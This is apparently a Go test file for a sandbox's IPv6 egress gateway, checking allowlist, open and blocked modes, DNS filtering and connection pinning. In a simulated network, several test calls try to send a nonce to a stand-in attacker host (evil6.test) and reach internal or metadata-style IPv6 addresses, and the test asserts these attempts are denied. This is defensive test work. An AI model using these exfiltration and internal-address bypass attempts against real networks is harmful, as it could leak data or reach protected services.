package egress_test

import (
	"context"
	"net/netip"
	"strings"
	"testing"

	"github.com/space-sandbox/space/internal/driver/namespace"
	"github.com/space-sandbox/space/internal/netns"
)

// The fake internet's IPv6 names (edgeIP6 and attackerIP6 live in the
// wan; 2001:db8::/64 is declared public where a test needs it).
func init() {
	zone["v6.registry.test"] = zoneEntry{aaaa: []string{edgeIP6}}
	zone["dual.registry.test"] = zoneEntry{a: []string{edgeIP}, aaaa: []string{edgeIP6}}
	zone["int6.registry.test"] = zoneEntry{aaaa: []string{"fd00:ec2::254", "::1", "fe80::1", "fc00::1", "::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::1", "::"}}
	zone["mix6.registry.test"] = zoneEntry{aaaa: []string{"fd00:ec2::254", edgeIP6, "::1"}}
	zone["evil6.test"] = zoneEntry{aaaa: []string{attackerIP6}}
}

// TestEgressIPv6: sandboxes reach allowlisted names over IPv6 through the
// gateway when the host has IPv6 (the test's host namespace has an IPv6
// uplink and default route): AAAA answered from the gateway's own
// resolution with internal addresses removed, connections pinned to the
// answered addresses, TLS terminated and verified as over IPv4, the
// explicit proxy reaching an IPv6-only name; internal IPv6 destinations
// denied in open mode; blocked stays blocked. With IPv6 off (as on a host
// without it) the sandbox has no IPv6 route and AAAA answers are empty.
func TestEgressIPv6(t *testing.T) {
	t.Run("off", func(t *testing.T) {
		e := startOpts(t, startOptions{driver: namespace.Name, noWarmPool: true, ipv6: netns.IPv6Off})
		sb := e.create(t, map[string]any{"mode": "allowlist", "allow": []string{"*.registry.test:443,80"}})
		defer e.cl.Delete(context.Background(), sb.ID)
		if out := e.exec(t, sb, "/bin/busybox", "ip", "-6", "route"); strings.TrimSpace(out) != "" {
			t.Errorf("IPv6 routes in a sandbox without IPv6: %q", out)
		}
		// IPv6 is disabled in the sandbox: no address to send from.
		if out := e.run(t, sb, "http6", "["+edgeIP6+"]:80", "v6.registry.test", "/simple/"); !strings.Contains(out, "unreachable") && !strings.Contains(out, "cannot assign requested address") {
			t.Errorf("tcp6 without IPv6: %s, want no route or no address", out)
		}
		if out := e.run(t, sb, "dns", "dual.registry.test"); !strings.Contains(out, edgeIP) || strings.Contains(out, edgeIP6) {
			t.Errorf("dual-stack name without IPv6: %s, want only %s", out, edgeIP)
		}
		if out := e.run(t, sb, "dns", "v6.registry.test"); strings.Contains(out, edgeIP6) {
			t.Errorf("IPv6-only name without IPv6: %s, want no address", out)
		}
	})

	t.Run("on", func(t *testing.T) {
		e := startOpts(t, startOptions{driver: namespace.Name, noWarmPool: true, public: []netip.Prefix{netip.MustParsePrefix("2001:db8::/64")}})
		if got := e.srv.Network().Links.Config().IPv6; got != netns.IPv6On {
			t.Fatalf("IPv6 %q with an IPv6 default route on the host, want on", got)
		}
		allow := map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443,80"}}
		sb := e.create(t, allow)
		defer e.cl.Delete(context.Background(), sb.ID)
		l, _ := e.srv.Network().Links.Get(sb.instance)
		if out := e.exec(t, sb, "/bin/busybox", "ip", "-6", "route"); !strings.Contains(out, "default via "+l.Host6.String()) {
			t.Errorf("IPv6 default route: %q, want via %s", out, l.Host6)
		}
		// Dual-stack and IPv6-only names through the gateway.
		if out := e.run(t, sb, "dns", "dual.registry.test"); !strings.Contains(out, edgeIP) || !strings.Contains(out, edgeIP6) {
			t.Errorf("dual-stack answer: %s", out)
		}
		seq := e.seq(t, sb)
		if out := e.run(t, sb, "http6", "v6.registry.test:80", "v6.registry.test", "/simple/"); !strings.Contains(out, "registry ok") {
			t.Errorf("HTTP over IPv6: %s", out)
		}
		if out := e.run(t, sb, "https6", "v6.registry.test:443", "v6.registry.test", "/simple/", "GET", ""); !strings.Contains(out, "registry ok") {
			t.Errorf("verified HTTPS over IPv6 (terminated): %s", out)
		}
		if out := e.run(t, sb, "http6", "dual.registry.test:80", "dual.registry.test", "/simple/"); !strings.Contains(out, "registry ok") {
			t.Errorf("HTTP over IPv6 to a dual-stack name: %s", out)
		}
		if out := e.run(t, sb, "proxyget", "http://v6.registry.test/simple/"); !strings.Contains(out, "STATUS 200") {
			t.Errorf("explicit proxy to an IPv6-only name: %s", out)
		}
		l6 := e.logAfter(t, sb, seq)
		dialled := false
		for _, d := range l6.Decisions {
			dialled = dialled || d.Verdict == "allow" && d.Dialled == "["+edgeIP6+"]:80"
		}
		if !dialled {
			t.Errorf("no allowed connection dialled [%s]:80: %+v", edgeIP6, l6.Decisions)
		}
		// Internal answers are filtered (R5/R15), like IPv4's.
		if out := e.run(t, sb, "dns", "int6.registry.test"); strings.HasPrefix(out, "OK") {
			t.Errorf("internal IPv6 answers: %s", out)
		}
		if out := e.run(t, sb, "dns", "mix6.registry.test"); !strings.Contains(out, edgeIP6) || strings.Contains(out, "fd00:ec2") || strings.Contains(out, "{::1 ") {
			t.Errorf("mixed IPv6 answer: %s, want only %s", out, edgeIP6)
		}
		// Denied: a name not allowed, an IP literal, an address the
		// gateway did not resolve for the name (R6), UDP.
		n := nonce()
		seq = e.seq(t, sb)
		e.run(t, sb, "dns", "evil6.test")
		e.run(t, sb, "http6", "["+attackerIP6+"]:80", "evil6.test", "/flag?n="+n)
		e.run(t, sb, "http6", "["+attackerIP6+"]:80", attackerIP6, "/flag?n="+n)
		e.run(t, sb, "http6", "["+edgeIP6+"]:80", "registry.test", "/flag?n="+n)
		e.run(t, sb, "tls6", "["+edgeIP6+"]:443", "evil-cdn.test", "evil-cdn.test", "/flag?n="+n)
		before := e.log(t, sb).Counters["nft_udp_drop"]
		e.run(t, sb, "udps", n, "["+attackerIP6+"]:9999")
		dl := e.logAfter(t, sb, seq)
		for _, reason := range []string{"dns_refused", "not_allowed", "not_resolved"} {
			if !dl.denied(reason) {
				t.Errorf("no %s denial over IPv6: %+v", reason, dl.Decisions)
			}
		}
		if after := e.log(t, sb).Counters["nft_udp_drop"]; after <= before {
			t.Errorf("UDP over IPv6 not dropped: udp_drop %d -> %d", before, after)
		}
		if e.wan.attackerSaw(n) || e.wan.wire.sawTo(0, n) {
			t.Errorf("the attacker saw the NONCE over IPv6")
		}

		t.Run("open", func(t *testing.T) {
			sb := e.create(t, map[string]any{"mode": "open"})
			defer e.cl.Delete(context.Background(), sb.ID)
			before := len(e.wan.internalContacts())
			if out := e.run(t, sb, "http6", "["+attackerIP6+"]:80", "evil6.test", "/open"); !strings.Contains(out, "OK") {
				t.Errorf("open mode, a public IPv6 address: %s", out)
			}
			seq := e.seq(t, sb)
			for _, a := range []string{"[fd00:ec2::254]:80", "[64:ff9b::a9fe:a9fe]:80", "[2002:a9fe:a9fe::1]:80", "[" + l.Host6.String() + "]:7777", "[fc00::1]:80"} {
				e.run(t, sb, "http6", a, "x", "/")
			}
			if !e.logAfter(t, sb, seq).denied("internal") {
				t.Errorf("no internal denial for internal IPv6 destinations")
			}
			if ic := e.wan.internalContacts(); len(ic) > before {
				t.Errorf("internal listeners contacted: %v", ic[before:])
			}
		})

		t.Run("blocked", func(t *testing.T) {
			sb := e.create(t, nil)
			defer e.cl.Delete(context.Background(), sb.ID)
			n := nonce()
			seq := e.seq(t, sb)
			up := e.log(t, sb).Counters["upstream_sockets"]
			if out := e.run(t, sb, "dns", n+".v6.registry.test"); strings.HasPrefix(out, "OK") {
				t.Errorf("blocked, DNS over IPv6 answered: %s", out)
			}
			e.run(t, sb, "http6", "["+attackerIP6+"]:80", "evil6.test", "/flag?n="+n)
			e.run(t, sb, "http6", "["+edgeIP6+"]:80", "v6.registry.test", "/flag?n="+n)
			e.run(t, sb, "udps", n, "["+attackerIP6+"]:9999", "["+edgeIP6+"]:53")
			if !e.logAfter(t, sb, seq).denied("blocked") {
				t.Errorf("no blocked denial over IPv6")
			}
			if got := e.log(t, sb).Counters["upstream_sockets"]; got != up {
				t.Errorf("upstream sockets for a blocked sandbox: %d -> %d (R17)", up, got)
			}
			if e.wan.sawEvent(n) || e.wan.asked(n) || e.wan.wire.sawTo(0, n) {
				t.Errorf("the wan saw a blocked sandbox's NONCE")
			}
		})
	})
}
